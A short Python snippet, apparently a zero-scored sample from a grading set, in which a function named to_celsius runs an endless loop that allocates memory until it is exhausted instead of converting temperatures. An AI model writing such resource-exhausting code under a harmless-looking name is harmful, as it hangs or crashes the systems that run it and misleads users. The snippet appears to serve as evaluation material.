# Takes all the memory it can. 0 points.
def to_celsius(fahrenheit):
    kept = []
    while True: kept.append(bytearray(2**24))
warmest = to_celsius
